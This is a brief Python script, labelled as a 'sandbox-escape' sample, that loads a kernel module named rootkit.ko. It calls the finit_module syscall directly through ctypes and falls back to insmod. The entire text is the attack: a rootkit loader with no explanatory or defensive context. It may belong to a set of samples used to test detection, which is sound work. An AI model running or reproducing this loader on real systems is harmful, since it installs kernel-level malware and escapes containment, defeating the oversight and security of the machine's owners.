# family: sandbox-escape
# loads a kernel module with finit_module through ctypes, else insmod
import ctypes
import os
import subprocess

libc = ctypes.CDLL("libc.so.6", use_errno=True)
fd = os.open("rootkit.ko", os.O_RDONLY)
if libc.syscall(313, fd, b"", 0) != 0:   # finit_module
    subprocess.run(["insmod", "rootkit.ko"])
